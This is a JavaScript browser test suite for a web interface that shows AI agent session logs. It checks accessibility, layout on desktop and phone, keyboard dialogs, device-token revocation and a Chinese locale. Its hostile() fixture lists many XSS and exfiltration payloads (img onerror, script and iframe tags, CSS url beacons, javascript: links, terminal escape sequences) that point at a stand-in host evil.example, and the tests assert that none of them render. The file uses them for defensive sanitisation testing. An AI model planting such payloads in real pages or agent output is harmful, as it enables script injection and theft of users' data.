// Every page at a desk and on a phone: what a hostile agent gets, what axe finds, and what fits.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { axeFinds, Box, DESKTOP, launch, overflow, PHONE, shot, TOKEN, until, visit } from './kit.mjs';

let box;
let browser;
let ids;
before(async () => {
  box = await Box.start();
  browser = await launch();
  ids = {
    hostile: box.record(hostile(), { title: '<img src=x onerror=alert(1)> \u202e hostile' }),
    rich: box.record(rich(), { title: 'Make the parser understand comments' }),
    long: box.record(long(6000), { title: 'A long one' }),
    failed: box.record([], { title: 'Could not start', state: 'failed' }),
  };
});
after(async () => {
  await browser?.close();
  await box?.stop();
});

const said = (text, id = text.slice(0, 20)) => ({
  kind: 'text.delta',
  data: { text, role: 'assistant', message_id: id },
});
const asked = (text, id) => ({ kind: 'text.delta', data: { text, role: 'user', message_id: id } });

/** What an agent would try that wants the user's browser to do something for it. */
function hostile() {
  const out = 'https://evil.example/?s=secret';
  const payloads = [
    `![image](${out})`,
    `[![image](${out})](${out})`,
    `![image][ref]\n\n[ref]: ${out}`,
    `<img src="${out}" onerror="alert(1)">`,
    `<svg><image href="${out}"/><script>alert(1)</script></svg>`,
    `<script src="${out}"></script><script>alert(1)</script>`,
    `<iframe src="${out}"></iframe><object data="${out}"></object><embed src="${out}">`,
    `<link rel="dns-prefetch" href="//evil.example"><link rel=stylesheet href="${out}">`,
    `<meta http-equiv="refresh" content="0;url=${out}">`,
    `<base href="${out}"><form action="${out}"><input name=a autofocus onfocus=alert(1)></form>`,
    `<style>@import url(${out}); body{background:url(${out})}</style>`,
    `<p style="background:url(${out})">styled</p>`,
    `<video src="${out}" autoplay></video><audio src="${out}" autoplay></audio>`,
    `<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>`,
    `<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
    `[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>)`,
    `[vb](vbscript:x) [rel](//evil.example/x) <javascript:alert(1)>`,
    `[https://good.example](${out})`,
    '```html\n<img src=x onerror=alert(1)>\n```',
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    `| a | b |\n|---|---|\n| <img src=${out}> | ![x](${out}) |`,
    `# <img src=${out} onerror=alert(1)>`,
    `- ![x](${out})\n- <script>alert(1)</script>`,
    `&lt;img src=x onerror=alert(1)&gt; &#x3c;script&#x3e;`,
    `${'> '.repeat(4000)}deep ${'- '.repeat(2000)}`,
    `\u202egnp.exe\u202c and \u0007 a bell`,
  ];
  const call = (id, tool, input) => ({ kind: 'tool.use.start', data: { tool_use_id: id, tool, input } });
  const result = (id, output, is_error = false) => ({
    kind: 'tool.use.result',
    data: { tool_use_id: id, tool: 'Bash', output, is_error, duration_ms: 3 },
  });
  return [
    ...payloads.map((text, n) => said(text, `m${n}`)),
    ...payloads.map((text, n) => ({ kind: 'thinking', data: { text, message_id: `t${n}` } })),
    call('c1', 'Bash', { command: `<img src=${out} onerror=alert(1)>` }),
    result(
      'c1',
      `\u001b]8;;${out}\u001b\\link\u001b]8;;\u001b\\ \u001b]52;c;ZXZpbA==\u0007<img src=${out} onerror=alert(1)>`,
    ),
    call('c2', `<b onmouseover=alert(1)>Tool</b>`, { '<i>': `![x](${out})` }),
    result(
      'c2',
      [
        { type: 'image', source: { type: 'url', url: out } },
        { type: 'text', text: `<img src=${out}>` },
      ],
      true,
    ),
    call('c3', 'Edit', {
      file_path: `"><img src=${out}>`,
      old_string: `<script>`,
      new_string: `<img src=${out} onerror=alert(1)>`,
    }),
    result('c3', 'x'.repeat(3_000_000)),
    {
      kind: 'hook',
      data: {
        name: '<img src=x>',
        event: 'PreToolUse',
        result: { exit_code: 2, stderr: `<img src=${out}>` },
      },
    },
    { kind: 'meta', data: { note: `![x](${out}) <img src=${out}>`, model: '<b>model</b>' } },
    {
      kind: 'todo.update',
      data: { items: [{ id: '1', subject: `<img src=${out} onerror=alert(1)>`, status: 'in_progress' }] },
    },
    { kind: 'from.the.future', data: { html: `<img src=${out}>` } },
  ];
}

function rich() {
  const text = `## What I found

The parser stops at \`#\`. **Two** things are wrong:

1. The lexer has no rule for comments.
2. The test that should have seen it is skipped.

\`\`\`rust
fn comment(input: &str) -> Option<&str> {
    // A comment ends with its line.
    input.strip_prefix('#')?.split('\\n').next()
}
\`\`\`

| case | before | after |
|---|---|---|
| \`# a\` | error | ok |
| \`a # b\` | error | ok |

> It is a small change, see [the issue](https://example.com/12).`;
  const call = (id, tool, input) => ({ kind: 'tool.use.start', data: { tool_use_id: id, tool, input } });
  const result = (id, tool, output, is_error = false) => ({
    kind: 'tool.use.result',
    data: { tool_use_id: id, tool, output, is_error, duration_ms: 840 },
  });
  return [
    asked('The parser dies of comments. Find out why and mend it.', 'u1'),
    { kind: 'status', data: { state: 'working', elapsed_ms: 10 } },
    { kind: 'thinking', data: { text: 'I should read the lexer first.', message_id: 'm1' } },
    call('r1', 'Grep', { pattern: 'fn token', path: 'src' }),
    result('r1', 'Grep', 'src/lexer.rs:12'),
    call('r2', 'Read', { file_path: 'src/lexer.rs' }),
    result('r2', 'Read', 'fn token() {}'),
    said(text, 'm2'),
    call('e1', 'Edit', {
      file_path: 'src/lexer.rs',
      old_string: "match first {\n    b'\"' => string(),\n    _ => word(),\n}",
      new_string: "match first {\n    b'\"' => string(),\n    b'#' => comment(),\n    _ => word(),\n}",
    }),
    result('e1', 'Edit', 'The file was updated.'),
    call('b1', 'Bash', { command: 'cargo test -p parser' }),
    result('b1', 'Bash', 'running 12 tests\n\u001b[32mtest result: ok\u001b[0m. 12 passed\n'),
    call('b2', 'Bash', { command: 'git push' }),
    result('b2', 'Bash', 'fatal: no upstream branch', true),
    {
      kind: 'todo.update',
      data: {
        items: [
          { id: '1', subject: 'Find the fault', status: 'completed' },
          { id: '2', subject: 'Mend the lexer', activeForm: 'Mending the lexer', status: 'in_progress' },
          { id: '3', subject: 'Wake the skipped test', status: 'pending' },
        ],
      },
    },
    {
      kind: 'hook',
      data: { name: 'PreToolUse:Bash', event: 'PreToolUse', result: { exit_code: 0, outcome: 'success' } },
    },
    said('Comments are understood now, in both places.', 'm3'),
    {
      kind: 'usage',
      data: { input: 1200, output: 800, cache_read: 40_000, cache_write: 3000, cost_usd: 0.21 },
    },
    { kind: 'stop', data: { reason: 'turn_end', last: false, by: 'user' } },
    { kind: 'status', data: { state: 'idle', elapsed_ms: 9000 } },
  ];
}

function long(count) {
  return Array.from({ length: count }, (_, n) =>
    n % 4 ? said(`piece ${n} of a message `, `m${n >> 2}`) : asked(`message ${n}`, `u${n}`),
  );
}

test('nothing is fetched or run, whatever Claude says', async () => {
  const page = await visit(browser, box, `/s/${ids.hostile}`, { permissions: [] });
  page.on('dialog', (dialog) => page.wrongs.push(`dialog: ${dialog.message()}`));
  await page.getByRole('log').getByText('The session ended').waitFor();
  for (const one of await page.locator('details').all())
    await one.evaluate((details) => (details.open = true));
  await page.evaluate(async () => {
    const log = document.querySelector('[role=log]');
    for (let top = log.scrollHeight; top >= 0; top -= 500) {
      log.scrollTop = top;
      await new Promise((resolve) => requestAnimationFrame(resolve));
    }
  });
  for (const one of await page.locator('details').all())
    await one.evaluate((details) => (details.open = true));
  await page.waitForTimeout(400);
  const found = await page.evaluate(() => ({
    tags: document.querySelectorAll(
      '[role=log] :is(img, script, iframe, object, embed, link, meta, base, form, style, video, audio, svg image)',
    ).length,
    links: [...document.querySelectorAll('[role=log] a:not(.turn a)')].map((a) => [
      a.protocol,
      a.target,
      a.rel,
    ]),
    handlers: [...document.querySelectorAll('[role=log] *')].filter((one) =>
      [...one.attributes].some((a) => /^on|^style$/.test(a.name)),
    ).length,
  }));
  assert.equal(found.tags, 0);
  assert.equal(found.handlers, 0);
  for (const link of found.links)
    assert.deepEqual(link, ['https:', '_blank', 'noopener noreferrer nofollow']);
  assert.ok(found.links.length > 3);
  await page.getByText('(evil.example)').first().waitFor();
  await shot(page, 'hostile');
  for (const width of [1280, 320]) {
    await page.setViewportSize({ width, height: 640 });
    assert.equal(await overflow(page, width), 0);
  }
  assert.deepEqual(page.wrongs, []);
  await page.context().close();
});

test('a long session is drawn by parts, ends at its end, and reading above is not disturbed', async () => {
  const page = await visit(browser, box, `/s/${ids.long}`);
  const log = page.getByRole('log');
  await log.getByText('The session ended').waitFor();
  const nodes = () => log.evaluate((one) => one.querySelectorAll('*').length);
  assert.ok((await nodes()) < 2500, `${await nodes()} nodes`);
  await until('its end', () =>
    log.evaluate((one) => one.scrollHeight - one.clientHeight - one.scrollTop < 5),
  );
  await log.hover();
  await page.mouse.wheel(0, -900);
  await page.getByRole('button', { name: /To the end|new/ }).waitFor();
  // Rows are added above while it is scrolled: what is read stays where it is.
  const first = () =>
    log.evaluate((one) => {
      const top = one.getBoundingClientRect().top;
      const row = [...one.querySelectorAll('[data-key]')].find(
        (row) => row.getBoundingClientRect().bottom > top,
      );
      return [row.dataset.key, row.getBoundingClientRect().top - top];
    });
  for (let n = 0; n < 30; n += 1) {
    await page.mouse.wheel(0, -400);
    await page.waitForTimeout(30);
  }
  // By the frames that it draws: a busy browser may draw none for a while.
  await log.evaluate(async (one) => {
    for (let still = 0, top = -1; still < 20; still += 1) {
      await new Promise((resolve) => requestAnimationFrame(resolve));
      if (one.scrollTop !== top) [still, top] = [0, one.scrollTop];
    }
  });
  const [key, at] = await first();
  await page.waitForTimeout(300);
  const [again, where] = await first();
  assert.equal(again, key);
  assert.ok(Math.abs(where - at) <= 1);
  assert.ok((await nodes()) < 2500);
  await page.getByRole('button', { name: /To the end|new/ }).click();
  await until('the end', () =>
    log.evaluate((one) => one.scrollHeight - one.clientHeight - one.scrollTop < 5),
  );
  assert.deepEqual(page.wrongs, []);
  await page.context().close();
});

const screens = () => [
  ['sign-in', '/', { signedIn: false }, (page) => page.getByLabel('Password')],
  ['dashboard', '/', {}, (page) => page.getByText('Make the parser').first()],
  ['session', `/s/${ids.rich}`, {}, (page) => page.getByText('Comments are understood')],
  ['session-details', `/s/${ids.rich}/details`, {}, (page) => page.getByText('Mending the lexer').last()],
  ['session-terminal', `/s/${ids.rich}/terminal`, {}, (page) => page.getByText('no terminal')],
  ['new', '/new', {}, (page) => page.getByLabel('What is to be done?')],
  ['shells', '/shells', {}, (page) => page.getByText('No shells')],
  ['settings', '/settings', {}, (page) => page.getByLabel('Appearance')],
  ['tokens', '/settings/tokens', {}, (page) => page.getByText('No device tokens')],
  ['login', '/settings/login', {}, (page) => page.getByRole('alert')],
  [
    'notifications',
    '/settings/notifications',
    {},
    (page) => page.getByRole('heading', { name: 'Notifications' }),
  ],
  ['providers', '/settings/providers', {}, (page) => page.getByText('There is no provider yet')],
  ['usage', '/usage', {}, (page) => page.getByText('What turns used')],
  ['about', '/settings/about', {}, (page) => page.getByText('You are')],
  ['nowhere', '/no/such/page', {}, (page) => page.getByText('There is no such page')],
];

for (const [name, colorScheme, some] of [
  ['desktop', 'light', null],
  ['desktop', 'dark', ['dashboard', 'session']],
  ['phone', 'dark', null],
  ['phone', 'light', ['dashboard', 'session']],
]) {
  const [size, phone] = name === 'phone' ? [PHONE, true] : [DESKTOP, false];
  test(`axe finds nothing on ${some?.join(' and ') ?? 'any page'}, ${name}, ${colorScheme}, and all fits`, async () => {
    for (const [what, where, more, ready] of screens()) {
      if (some && !some.includes(what)) continue;
      const page = await visit(browser, box, where, { size, phone, colorScheme, ...more });
      await ready(page).waitFor({ state: 'attached' });
      await page.waitForTimeout(150);
      if (what === 'session') {
        for (const one of await page.locator('details').all())
          await one.evaluate((details) => (details.open = true));
        await page.locator('.diff').first().waitFor();
      }
      await shot(page, `${what}-${name}-${colorScheme}`);
      assert.deepEqual(await axeFinds(page), [], what);
      assert.equal(await overflow(page, size.width), 0, what);
      if (phone) {
        await page.setViewportSize({ width: 320, height: 568 });
        assert.equal(await overflow(page, 320), 0, what);
      }
      assert.deepEqual(page.wrongs, [], what);
      await page.context().close();
    }
  });
}

test('dialogs are reached by keys, pass axe and close', async () => {
  const page = await visit(browser, box);
  await page.getByText('Make the parser').first().waitFor();
  await page.keyboard.press('?');
  await page.getByRole('dialog').getByText('New session').waitFor();
  assert.deepEqual(await axeFinds(page), []);
  await page.keyboard.press('Escape');
  await page.keyboard.press('Control+k');
  await page.getByRole('combobox').fill('parser');
  await shot(page, 'palette');
  assert.deepEqual(await axeFinds(page), []);
  await page.keyboard.press('Enter');
  await page.waitForURL(`**/s/${ids.rich}`);
  await page.keyboard.press('g');
  await page.keyboard.press('s');
  await page.waitForURL(`${box.url}/`);
  await page.locator('[data-row]').first().waitFor();
  await page.keyboard.press('j');
  await page.keyboard.press('Enter');
  await page.waitForURL(/\/s\//);
  assert.deepEqual(page.wrongs, []);
  await page.context().close();
});

test('a device token is shown once and revoked', async () => {
  const page = await visit(browser, box, '/settings/tokens');
  await page.getByLabel('Name').fill('phone');
  await page.getByRole('button', { name: 'Make a token' }).click();
  const token = await page.getByRole('textbox', { name: 'The token' }).inputValue();
  const info = () => fetch(`${box.url}/api/sessions`, { headers: { authorization: `Bearer ${token}` } });
  assert.equal((await info()).status, 200);
  await page.keyboard.press('Escape');
  await page.getByRole('img', { name: 'The token as a QR code' }).waitFor();
  await shot(page, 'token-once');
  assert.deepEqual(await axeFinds(page), []);
  await page.getByRole('button', { name: 'I have it' }).click();
  assert.ok(!(await page.content()).includes(token));
  await page.getByRole('button', { name: 'Revoke phone' }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Revoke' }).click();
  await page.getByText('No device tokens').waitFor();
  assert.equal((await info()).status, 401);
  assert.deepEqual(page.wrongs, []);
  await page.context().close();
});

test('a key for a device is shown once with its id', async () => {
  const page = await visit(browser, box, '/settings/tokens');
  await page.getByLabel('Name').fill('desk lamp');
  await page.getByLabel('Sent as').selectOption('device');
  await page.getByRole('button', { name: 'Make a token' }).click();
  const key = await page.getByLabel('Key', { exact: true }).inputValue();
  const id = await page.getByLabel('Key id').inputValue();
  assert.match(key, /^[0-9a-f]{64}$/);
  assert.match(id, /^[0-9a-f]{16}$/);
  await shot(page, 'token-key');
  assert.deepEqual(await axeFinds(page), []);
  await page.getByRole('button', { name: 'I have it' }).click();
  await page.getByText(`key ${id}`).waitFor();
  assert.ok(!(await page.content()).includes(key));
  await page.getByRole('button', { name: 'Revoke desk lamp' }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Revoke' }).click();
  await page.getByText('No device tokens').waitFor();
  assert.deepEqual(page.wrongs, []);
  await page.context().close();
});

test('Chinese is whole and chosen by the browser', async () => {
  const page = await visit(browser, box, '/', { locale: 'zh-CN' });
  await page.getByRole('heading', { name: '会话' }).waitFor();
  assert.equal(await page.evaluate(() => document.documentElement.lang), 'zh-CN');
  await shot(page, 'dashboard-chinese');
  assert.deepEqual(page.wrongs, []);
  await page.context().close();
});

test('a headless box has no page', async () => {
  const headless = await Box.start({ mode: 'headless' });
  try {
    const answer = await fetch(headless.url, { headers: { accept: 'text/html' } });
    assert.equal(answer.status, 404);
    assert.equal((await answer.json()).error, 'no_such_route');
    assert.equal(
      (await fetch(`${headless.url}/api/info`, { headers: { authorization: `Bearer ${TOKEN}` } })).status,
      200,
    );
  } finally {
    await headless.stop();
  }
});
